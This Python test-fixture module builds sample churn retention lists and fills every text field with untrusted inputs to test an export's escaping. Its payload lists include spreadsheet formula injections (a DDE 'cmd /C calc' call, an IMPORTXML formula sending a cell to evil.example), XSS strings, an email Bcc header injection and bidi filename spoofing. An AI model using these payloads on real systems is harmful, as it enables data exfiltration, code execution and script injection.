"""A believable week's list that fills everything people see, and strangers' texts to put into it."""

import random
from dataclasses import replace
from datetime import date, timedelta
from typing import Any

import pandas as pd

from churn.contracts import FEEDBACK_COLUMNS, LIST_COLUMNS
from churn.io.documents.export import COLUMNS
from churn.io.documents.handout import Aside, Detail, Listing, Mark, Past

AS_OF = date(2026, 1, 5)
WEEKS = [(AS_OF - timedelta(weeks=26 - k)).isoformat() for k in range(26)]
OWNERS = ["Anna Lindqvist", "Marcus Oyelaran", "Priya Raman", "Tomás Ferreira"]
PLAYS = ["Call the main user", "Offer a training session", "Review the contract", None]

FORMULAS = [
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "'=1+1",
    '"=1+1',
    "\u200b=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "fine;=1+1",
    "fine\n=1+1",
    '=IMPORTXML("http://evil.example/?"&A1,"//a")',
    "\ufeff=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"onmouseover=alert(1) x="',
    "'><img src=x onerror=alert(1)>",
    "<!--<script>",
    "{{ 7*7 }}{% raw %}",
    "javascript:alert(1)",
    "&lt;b&gt; & co",
    "]]></json>\u2028alert(1)",
]
ODD = [
    "Acme\u202egnp.exe",
    "\u2067evil\u2069 Ltd",
    "🦊🏳️\u200d🌈 Foxes & Sons",
    "x" * 300,
    "Wort " * 60,
    "بقالة الحي",
    "Ren\u0000é\u0007 _x0041_",
    "Subject: x\r\nBcc: victim@example.com",
    "\r\n.\r\n--=_churn_digest--",
    "http://evil.example",
    "1e5",
    "007",
]
PAYLOADS = FORMULAS + MARKUP + ODD


def sample(n_rows: int = 60, names: list[str] | None = None) -> Listing:
    """A believable list of one week, or one whose customers are called `names`."""
    chance = random.Random(5)
    rows = [_sample_row(chance, k) for k in range(n_rows)]
    rows.sort(key=lambda row: -row["priority"])
    for k, row in enumerate(rows):
        row["rank"] = k + 1
        if names:
            row["customer_name"] = names[k]
    details = {row["customer_id"]: _sample_detail(chance, row) for row in rows}
    return Listing(
        title="Retention list, week of 5 January 2026",
        as_of=AS_OF,
        facts={
            "Customers scored": "13,214",
            "Churn means": "cancels within 28 days",
            "Usual rate": "3.4 % in 28 days",
            "Model": "a1b2c3d4e5f6",
        },
        notes=["Plan changes of 2 and 3 January have not arrived yet."],
        rows=pd.DataFrame(rows, columns=list(LIST_COLUMNS)),
        attributes=["segment", "plan"],
        details=details,
        leaving=[
            Aside(
                "004242", "Halden Freight", OWNERS[0], "Gave notice on 12 Dec; ends 31 Jan 2026."
            ),
            Aside("004243", None, OWNERS[1], "Does not renew; ends 3 Feb 2026."),
        ],
        unjudged=[Aside("090001", "Juniper Labs", OWNERS[2], "Known for 6 days; judged after 14.")],
        gone=[
            Aside("010101", "Cobalt Press", OWNERS[3], "Active on 9 of the last 14 days again."),
            Aside(
                "010102", "Osprey Clinics", OWNERS[0], "Contacted on 30 Dec; rests until 27 Jan."
            ),
        ],
        track=[
            Past("2025-12-29", 60, 14.2, None, None, None),
            Past("2025-12-22", 58, 13.1, None, None, None),
            Past("2025-12-01", 60, 12.6, 13, 9.0, 2.1),
            Past("2025-11-24", 60, 12.9, 10, 8.0, 2.0),
            Past("2025-11-17", 57, 11.8, 12, 7.0, 1.9),
        ],
    )


def _sample_row(chance: random.Random, k: int) -> dict[str, Any]:
    first = [
        "Northwind",
        "Harbor",
        "Kestrel",
        "Lumen",
        "Aster",
        "Quarry",
        "Tidal",
        "Bright",
        "Copper",
        "Willow",
    ]
    second = [
        "Logistics",
        "Foods",
        "Dental Group",
        "Analytics",
        "& Sons",
        "Robotics",
        "Travel",
        "Software GmbH",
    ]
    risk = min(0.93, chance.betavariate(2, 4) + 0.04)
    value = round(chance.lognormvariate(6.5, 0.9), 2)
    risk_8w = 1 - (1 - risk) ** 2
    active, usual = chance.randint(0, 4), chance.randint(6, 12)
    status = chance.choice(["new", "new", "still", "still", "still", "back"])
    last = AS_OF - timedelta(days=chance.randint(9, 200))
    return {
        "rank": 0,
        "customer_id": f"{k * 7919 % 100000:06d}",
        "customer_name": f"{chance.choice(first)} {chance.choice(second)}" if k % 13 else None,
        "owner": OWNERS[k % 4],
        "status": status,
        "weeks_on_list": 1 if status != "still" else chance.randint(2, 6),
        "act_before": AS_OF + timedelta(days=chance.choice([7, 14, 14, 21])),
        "risk": risk,
        "risk_8w": risk_8w,
        "risk_change": chance.gauss(0.04, 0.06) if status == "still" else float("nan"),
        "times_average": risk / 0.034,
        "value_month": value,
        "at_stake": risk_8w * value * 12,
        "priority": risk_8w * value * 12 * 0.2,
        "reason_1": f"Active on {active} of the last 14 days; usual for them is {usual}. "
        "Drop began 3 Nov.",
        "reason_2": f"{chance.randint(1, 4)} of 12 seats in use; it was {chance.randint(7, 11)} "
        "in October."
        if chance.random() < 0.8
        else None,
        "reason_3": "No report was exported since 18 Nov; usual for them is 5 a week."
        if chance.random() < 0.4
        else None,
        "protects": "Their admin still signs in every week." if chance.random() < 0.7 else None,
        "suggested_play": chance.choice(PLAYS),
        "last_contact": last if chance.random() < 0.6 else None,
        "confidence": chance.choice(["high", "medium", "low"]),
        "as_of": AS_OF,
        "currency": "EUR",
        "model_version": "a1b2c3d4e5f6",
        "list_id": "3fa2c1d09b7e",
        **dict.fromkeys(FEEDBACK_COLUMNS),
    }


def _sample_detail(chance: random.Random, row: dict[str, Any]) -> Detail:
    usual = chance.randint(3, 6)
    activity = [max(0, min(7, usual + chance.randint(-1, 1))) for _ in range(22)]
    activity += [max(0, usual - 2 - k) for k in range(4)]
    reasons = [
        {"family": "activity", "direction": "raises", "sentence": row["reason_1"]},
        {"family": "seats", "direction": "raises", "sentence": row["reason_2"]},
        {"family": "exports", "direction": "raises", "sentence": row["reason_3"]},
        {"family": "admin", "direction": "lowers", "sentence": row["protects"]},
    ]
    said = [reason for reason in reasons if reason["sentence"]]
    plan = chance.choice(["Starter", "Business", "Enterprise"])
    return Detail(
        weeks=WEEKS,
        activity=activity,
        events=[days * chance.randint(8, 40) for days in activity],
        band=(max(0, usual - 1), min(7, usual + 1)),
        marks=[
            Mark(WEEKS[8], "plan", "Seats 15 to 12"),
            Mark(WEEKS[21], "incident", "Exports failed for a day"),
            Mark(WEEKS[24], "contact", "Phone: not reached"),
        ],
        scores=[
            ((AS_OF - timedelta(weeks=5 - k)).isoformat(), row["risk"] * (0.4 + 0.12 * k))
            for k in range(6)
        ],
        reasons=[
            one | {"contribution": 1.4 / (k + 1), "evidence": "left 2.3 times as often as average"}
            for k, one in enumerate(said)
        ],
        reasons_before=[one | {"contribution": 0.9} for one in said[:1]],
        why_changed="Since 29 Dec the risk moved by +6 points: +5 from what they did since, +1 from late data.",
        sure="As sure as it gets: known for 935 days.",
        what_if="Active on 5 of 14 days would take them off the list.",
        talking_point="What would have to work for the team to come back to it this week?",
        channel="phone",
        play_record="Tried 42 times: 31 reached, 19 stayed.",
        contacts=[{"day": "2025-12-22", "channel": "phone", "result": "not reached"}],
        contract={"Plan": plan, "Seats": "12", "Renews": "3 Mar 2026", "Since": "14 Jun 2023"},
        attributes={"segment": chance.choice(["smb", "mid", "large"]), "plan": plan},
    )


def everywhere(*payloads: str) -> Listing:
    """A list with one customer for each of `payloads`, strangers' texts that stand in every place a
    stranger can reach."""
    listing = sample(len(payloads))
    texts = [name for name, column in COLUMNS.items() if column.kind in ("text", "wrap")]
    rows = listing.rows.assign(**{name: list(payloads) for name in texts})
    usual = next(iter(listing.details.values()))
    aside = [Aside(payload, payload, payload, payload) for payload in payloads]
    return replace(
        listing,
        title=" ".join(payloads),
        facts={payload: payload for payload in payloads},
        notes=list(payloads),
        rows=rows,
        details={payload: _said_by(payload, usual) for payload in payloads},
        attributes=["segment", *payloads],
        **{"leaving": aside, "unjudged": aside, "gone": aside},
    )


def _said_by(payload: str, usual: Detail) -> Detail:
    """A detail in which every text is `payload`."""
    family = {"family": payload, "direction": "raises", "sentence": payload, "contribution": 1.0}
    words = ("why_changed", "sure", "what_if", "talking_point", "channel", "play_record")
    return replace(
        usual,
        marks=[Mark(WEEKS[3], payload, payload)],
        reasons=[family | {"evidence": payload}],
        reasons_before=[family],
        contacts=[{"day": "2025-12-22", "channel": payload, "result": payload}],
        contract={payload: payload},
        attributes={"segment": payload, payload: payload},
        **dict.fromkeys(words, payload),
    )
